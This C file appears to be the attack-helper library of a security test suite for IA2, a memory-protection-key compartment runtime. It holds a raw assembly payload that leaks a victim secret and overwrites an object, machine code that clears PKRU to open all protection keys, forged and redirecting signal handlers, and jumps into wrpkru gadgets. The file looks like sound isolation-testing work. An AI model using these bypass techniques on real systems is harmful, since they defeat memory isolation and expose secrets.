/* The tools of attack.h. */
#include "attack.h"
#include <dlfcn.h>
#include <stdarg.h>

const int own_key = KEY, victim_key = VICTIM_KEY;
char *victim_secret;
volatile long *victim_object;
long (*hook)(long);
volatile int signals_seen;

long run_attack(const char *name) OWN(run_attack);
long run_hook(long value) OWN(hook);

extern const struct attack first_attack __asm__("__start_ia2_attacks")
    __attribute__((visibility("hidden")));
extern const struct attack last_attack __asm__("__stop_ia2_attacks")
    __attribute__((visibility("hidden")));

long run_attack(const char *name)
{
    victim_secret = (char *)victim_call(SECRET_AT, 0, 0);
    victim_object = (volatile long *)victim_call(OBJECT_AT, 0, 0);
    SYS(SYS_mmap, SHARED_PAGES, SHARED_SIZE, PROT_READ | PROT_WRITE,
        MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    ((word *)SHARED_PAGES)[0] = (word)victim_secret;
    ((word *)SHARED_PAGES)[1] = (word)victim_object;
    for (const struct attack *a = &first_attack; a < &last_attack; a++)
        if (!strcmp(a->name, name)) {
            a->run();
            return 0;
        }
    cannot("no attack of this name");
}

long run_hook(long value)
{
    return hook ? hook(value) : value;
}

/* ---- outcomes */

static void text(const char *bytes, long size)
{
    SYS(SYS_write, 1, bytes, size);
}

void say(const char *format, ...)
{
    char line[512];
    va_list arguments;
    va_start(arguments, format);
    int size = vsnprintf(line, sizeof line, format, arguments);
    va_end(arguments);
    text(line, size);
}

void leak(const void *from)
{
    char line[24] = "LEAK:";
    memcpy(line + 5, from, 16);
    line[21] = '\n';
    text(line, 22);
}

void own(void)
{
    char secret[16];
    memcpy(secret, victim_secret, 16);
    leak(secret);
    victim_object[0] = 0x41414141;
}

void effect(const char *what)
{
    say("EFFECT: %s\n", what);
}

void cannot(const char *why)
{
    say("CANNOT: %s\n", why);
    SYS(SYS_exit_group, 90);
    __builtin_unreachable();
}

/* First the signature that glibc registers rseq with. */
asm(".pushsection .text\n"
    ".globl own..payload\n.hidden own..payload\n"
    ".byte 0x0f, 0xb9, 0x3d\n.long 0x53053053\n"
    "own..payload:\n"
    "    mov $0x10000000, %rbx\n"
    "    mov (%rbx), %rsi\n"
    "    mov (%rsi), %rax\n    mov %rax, 0x105(%rbx)\n"
    "    mov 8(%rsi), %rax\n    mov %rax, 0x10d(%rbx)\n"
    "    movl $0x4b41454c, 0x100(%rbx)\n    movb $0x3a, 0x104(%rbx)\n" /* "LEAK:" */
    "    mov 8(%rbx), %rdi\n    movq $0x41414141, (%rdi)\n"
    "    mov $1, %eax\n    mov $1, %edi\n    lea 0x100(%rbx), %rsi\n    mov $21, %edx\n    syscall\n"
    "    mov $231, %eax\n    mov $77, %edi\n    syscall\n" /* exit_group(77) */
    ".popsection");

/* ---- memory */

char *pages(word size, int protection)
{
    long at = SYS(SYS_mmap, 0, size, protection, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    return FAILED(at) ? NULL : (char *)at;
}

int readable(const void *p)
{
    static int ends[2];
    char bytes[16];
    if (!ends[0])
        SYS(SYS_pipe, ends);
    long n = SYS(SYS_write, ends[1], p, 16);
    if (n > 0)
        SYS(SYS_read, ends[0], bytes, 16);
    return n == 16;
}

const unsigned char open_all_keys[] = {0x31, 0xc0, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01, 0xef, 0xc3};

void run_code(const void *code)
{
    if (FAILED(code) || !code) {
        say("no code: %ld\n", (long)code);
        return;
    }
    asm volatile("call *%0" ::"r"(code) : "rax", "rcx", "rdx", "memory");
    own();
}

/* ---- the runtime's state */

void *exported(const char *name)
{
    void *found = dlsym(RTLD_DEFAULT, name);
    if (!found)
        say("%s is not exported\n", name);
    return found;
}

const struct ia2_state *state(void)
{
    static const struct ia2_state *found;
    if (!found)
        found = exported("ia2_state");
    if (!found)
        cannot("the runtime's state has no address");
    return found;
}

uint32_t *slot(void)
{
    return exported("ia2_slot");
}

const struct ia2_module *module_of(int key)
{
    return &state()->module[key];
}

const struct ia2_compartment_descriptor *descriptor_of(int key)
{
    return module_of(key)->descriptor;
}

const struct ia2_thread_record *own_record(void)
{
    return &state()->thread[*slot()];
}

volatile word *suspended_word(int key)
{
    return (volatile word *)(own_record()->top[key] + IA2_SUSPENDED_SP);
}

word wrpkru_of(int key, int n)
{
    const struct ia2_compartment_descriptor *of = descriptor_of(key);
    for (const struct ia2_site *site = of->sites; site < of->sites_end; site++)
        if (site->kind == IA2_SITE_WRPKRU && !n--)
            return (word)site + site->offset;
    return 0;
}

word wrpkru_between(int caller, int callee, int back)
{
    const struct ia2_compartment_descriptor *of = descriptor_of(callee ? callee : caller);
    word first = 0, last = 0;
    for (const struct ia2_gate_code_range *path = of->code_ranges; path < of->code_ranges_end; path++) {
        if ((int)path->caller != caller || (int)path->callee != callee)
            continue;
        for (const struct ia2_site *site = of->sites; site < of->sites_end; site++) {
            word at = (word)site + site->offset;
            if (site->kind != IA2_SITE_WRPKRU || at - ((word)path + path->offset) >= path->length)
                continue;
            if (!first || at < first)
                first = at;
            if (at > last)
                last = at;
        }
    }
    if (!first)
        cannot("there is no such path between compartments");
    return back ? last : first;
}

word pkru_of(int key)
{
    return key ? descriptor_of(own_key)->pkru[key] : IA2_PKRU_0;
}

int state_file(void)
{
    char link[64], target[128];
    for (int i = 3; i < 1024; i++) {
        snprintf(link, sizeof link, "/proc/self/fd/%d", i);
        long n = SYS(SYS_readlink, link, target, sizeof target - 1);
        if (n > 0) {
            target[n] = 0;
            if (strstr(target, "ia2-state"))
                return i;
        }
    }
    return -1;
}

word offset_in_state(const void *field)
{
    return (word)field - (word)state();
}

struct ia2_signal forged_handler(void)
{
    struct ia2_signal forged;
    memset(&forged, 0, sizeof forged);
    forged.handler = (void (*)(int, siginfo_t *, void *))(word)payload;
    forged.owner = victim_key;
    return forged;
}

void quiet_handler(int number, siginfo_t *info, void *context)
{
    (void)number, (void)info, (void)context;
    signals_seen++;
}

/* ---- jumps */

__attribute__((naked)) void jump_with(const struct registers *registers, word target)
{
    asm volatile("push %rsi\n"
                 "mov %rdi, %rax\n"
                 "mov 8(%rax), %rcx\n mov 16(%rax), %rdx\n mov 24(%rax), %rbx\n"
                 "mov 32(%rax), %rbp\n mov 40(%rax), %rsi\n mov 48(%rax), %rdi\n"
                 "mov 56(%rax), %r8\n mov 64(%rax), %r9\n mov 72(%rax), %r10\n"
                 "mov 80(%rax), %r11\n mov 88(%rax), %r12\n mov 96(%rax), %r13\n"
                 "mov 104(%rax), %r14\n mov 112(%rax), %r15\n mov (%rax), %rax\n"
                 "ret");
}

word find_code(const char *file, const void *bytes, int size)
{
    char line[512], mode[8];
    unsigned long low, high;
    word found = 0;
    FILE *maps = fopen("/proc/self/maps", "r");
    if (!maps)
        cannot("no /proc/self/maps");
    while (!found && fgets(line, sizeof line, maps)) {
        if (sscanf(line, "%lx-%lx %7s", &low, &high, mode) != 3 || strcmp(mode, "r-xp") ||
            !strstr(line, file))
            continue;
        found = (word)memmem((void *)low, high - low, bytes, size);
    }
    fclose(maps);
    return found;
}

/* ---- signals */

void on_signal(int number, void (*handler)(int, siginfo_t *, void *))
{
    struct sigaction action;
    memset(&action, 0, sizeof action);
    action.sa_sigaction = handler;
    action.sa_flags = SA_SIGINFO;
    if (sigaction(number, &action, NULL))
        cannot("no handler");
}

static word pkru_offset(void)
{
    unsigned a, offset, c, d;
    asm("cpuid" : "=a"(a), "=b"(offset), "=c"(c), "=d"(d) : "a"(0xd), "c"(9));
    return offset;
}

uint32_t *saved_pkru(ucontext_t *context)
{
    char *area = (char *)context->uc_mcontext.fpregs;
    *(word *)(area + 512) |= 1 << 9; /* the area holds it */
    return (uint32_t *)(area + pkru_offset());
}

int leak_frame(ucontext_t *context)
{
    char found[16];
    const char *area = (const char *)context->uc_mcontext.fpregs;
    memset(found, '.', sizeof found);
    for (int r = 0; r < NGREG; r++)
        if (!memcmp(&context->uc_mcontext.gregs[r], "SEKRIT", 6)) {
            memcpy(found, &context->uc_mcontext.gregs[r], 8);
            leak(found);
            return 1;
        }
    for (int o = 32; o < 416; o += 8)
        if (!memcmp(area + o, "SEKRIT", 6)) {
            memcpy(found, area + o, 8);
            leak(found);
            return 1;
        }
    return 0;
}

void redirect(int number, siginfo_t *info, void *raw)
{
    (void)number, (void)info;
    ucontext_t *context = raw;
    signals_seen++;
    char *area = (char *)context->uc_mcontext.fpregs;
    uint32_t pkru =
        *(word *)(area + 512) & 1 << 9 ? *(uint32_t *)(area + pkru_offset()) : 0;
    if (pkru && pkru != pkru_of(victim_key))
        return;
    context->uc_mcontext.gregs[REG_RIP] = (greg_t)payload;
    context->uc_mcontext.gregs[REG_EFL] &= ~TRAP_FLAG;
}

void timer(int microseconds)
{
    struct itimerval every = {{0, microseconds}, {0, microseconds}};
    setitimer(ITIMER_REAL, &every, NULL);
}

/* ---- threads */

pthread_t thread(void *(*start)(void *), void *argument)
{
    pthread_t made;
    if (pthread_create(&made, NULL, start, argument))
        cannot("no thread");
    return made;
}
